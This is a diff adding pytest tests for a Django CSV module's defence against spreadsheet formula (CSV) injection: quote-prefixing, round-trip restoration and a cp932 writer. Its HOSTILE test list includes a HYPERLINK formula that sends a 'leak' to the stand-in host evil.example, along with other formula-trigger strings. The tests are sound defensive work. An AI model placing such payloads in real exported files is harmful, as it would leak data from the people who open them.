@@ -3,6 +3,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
+from decimal import Decimal
+
 import pytest
 from django.utils import translation
 
@@ -12,7 +16,9 @@ from core.csvio import (
     CsvFileError,
     decode_csv,
     fits_cp932,
+    neutralise_formula,
     read_csv,
+    restore_formula,
     written_form,
 )
 
@@ -128,3 +134,90 @@ def test_an_unterminated_quote_is_refused_with_its_line():
     with pytest.raises(CsvFileError) as caught:
         list(rows)
     assert "Line 3" in str(caught.value)
+
+
+# --- spreadsheet formulas (OWASP CSV injection) ------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak","x")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",  # a name that genuinely starts with '=
+    "''=twice",
+    "'@",
+]
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ('=HYPERLINK("http://x","x")', '\'=HYPERLINK("http://x","x")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'=x", "''=x"),
+        ("''=x", "'''=x"),
+        ("'plain", "'plain"),  # a ' before anything else is left alone
+        ("a=b", "a=b"),
+        ("", ""),
+        ("-3", "'-3"),  # text that looks like a number is still text (the column is not numeric)
+    ],
+)
+def test_a_text_cell_that_a_spreadsheet_would_run_as_a_formula_gets_one_leading_quote(value, written):
+    assert neutralise_formula(value) == written
+    assert restore_formula(written) == value
+
+
+@pytest.mark.parametrize("value", ["'plain", "'", "''", "'a=b", "it's", "'x-"])
+def test_reading_leaves_a_quote_that_is_not_before_a_formula_alone(value):
+    assert restore_formula(value) == value
+
+
+def test_the_writer_neutralises_text_cells_and_leaves_numbers_and_numeric_columns_as_numbers():
+    # given
+    writer = Cp932CsvWriter(["ID", "名前", "ポイント", "メモ"], numeric=["ID", "ポイント"])
+
+    # when
+    writer.writerow([1, "=1+1", -300, Decimal("-1.5")])
+    writer.writerow(["2", "-2+3", "-300", "-4"])
+    writer.writerow(["=3", "@x", "-2+3", None])  # a numeric column holding text is still neutralised
+
+    # then
+    assert rows(writer.getvalue()) == [
+        ["ID", "名前", "ポイント", "メモ"],
+        ["1", "'=1+1", "-300", "-1.5"],
+        ["2", "'-2+3", "-300", "'-4"],
+        ["'=3", "'@x", "'-2+3", ""],
+    ]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_a_hostile_cell_written_then_read_comes_back_unchanged(value):
+    # given
+    writer = Cp932CsvWriter(["名前", "ポイント"], numeric=["ポイント"])
+    writer.writerow([value, -5])
+
+    # when
+    data = writer.getvalue()
+    header, read = read_csv(decode_csv(data).text)
+
+    # then: the file holds no cell a spreadsheet would run, and reading it gives the value back
+    cells = rows(data)[1]
+    assert cells[0].startswith("'")
+    assert cells[1] == "-5"
+    assert header == ["名前", "ポイント"]
+    assert [row.cells for row in read] == [[value, "-5"]]
+
+
+def test_reading_takes_exactly_one_quote_off_a_neutralised_cell():
+    _header, read = read_csv("a,b,c\r\n'=1+1,''=2,'plain\r\n")
+    assert [row.cells for row in read] == [["=1+1", "'=2", "'plain"]]
+
+
+def rows(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("cp932"), newline="")))
